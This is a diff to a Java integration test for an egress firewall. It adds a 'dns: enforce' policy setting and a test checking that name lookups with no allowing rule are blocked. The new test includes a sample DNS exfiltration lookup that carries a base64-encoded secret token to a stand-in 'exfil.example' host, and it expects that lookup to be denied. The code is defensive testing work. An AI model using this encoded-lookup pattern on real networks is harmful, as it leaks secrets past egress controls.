@@ -61,6 +61,7 @@ class EgressIT {
                         "egress:",
                         "  default: deny",
                         "  require_tls: true",
+                        "  dns: enforce",
                         "  allow:",
                         "    - cidr: " + ALLOWED + "/32",
                         "    - cidr: " + EXPLICITLY_DENIED + "/32",
@@ -174,6 +175,17 @@ class EgressIT {
         for (ProbeApp app : enforcing) {
             String result = assertDenied(app, "url http://api.example.com/v1/orders");
             assertTrue(result.contains("egress.require_tls"), result);
+        }
+    }
+
+    @Test
+    void withDnsEnforceANameNoRuleAllowsIsNeverLookedUp() throws Exception {
+        for (ProbeApp app : enforcing) {
+            String result = app.run("lookup c2VjcmV0LXRva2Vu.exfil.example");
+            assertTrue(result.startsWith("DENIED connection to c2VjcmV0LXRva2Vu.exfil.example (name lookup) denied by "
+                    + "egress.dns"), result);
+            String localhost = app.run("lookup localhost");
+            assertTrue(localhost.startsWith("OK resolved "), "localhost is never judged: " + localhost);
         }
     }
 
